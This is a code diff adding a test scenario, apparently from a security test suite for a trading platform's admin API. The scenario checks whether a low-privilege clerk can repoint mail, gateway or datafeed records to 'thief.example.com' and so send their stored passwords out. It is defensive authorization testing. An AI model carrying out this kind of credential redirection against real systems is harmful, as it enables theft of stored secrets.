@@ -138,6 +138,38 @@ export const innerHosts: Scenario = {
   },
 }
 
+export const movedSecrets: Scenario = {
+  name: 'moved-secrets',
+  tries: 'clerks who may not read a password send it to hosts of their own',
+  async attack(field) {
+    const { server, staff } = field
+    const comp = ['SenderCompID', 'TargetCompID'].map((name) => ({ name, value: 'X' }))
+    const records = [
+      ['mail-servers', 'config.mail', { sender_email: 'desk@example.com' }],
+      ['gateways', 'config.gateways', { enabled: false, params: comp }],
+      ['datafeeds', 'config.datafeeds', { enabled: false, module: 'dde', login: 'x' }],
+    ] as const
+    const moved: string[] = []
+    for (const [path, right, more] of records) {
+      const made = await server.ask<{ id: number }>(`POST /admin/v1/${path}`, staff, {
+        name: 'Of the company',
+        server: 'a.example.com:1',
+        password: 'Sesame-open-7',
+        ...more,
+      })
+      const clerk = await field.clerk([right], 'demo\\*')
+      const { id } = made.data
+      const answer = await server.ask(`PATCH /admin/v1/${path}/${id}`, clerk, {
+        version: 1,
+        server: 'thief.example.com:1',
+      })
+      if (answer.code === 'ok') moved.push(path)
+      await server.ask(`DELETE /admin/v1/${path}/${id}`, staff)
+    }
+    return found(moved.length > 0 && `moved with their passwords: ${moved.join(', ')}`)
+  },
+}
+
 export const deadFeed: Scenario = {
   name: 'dead-feed',
   tries: 'an account trades on the last prices of a feed that is gone',
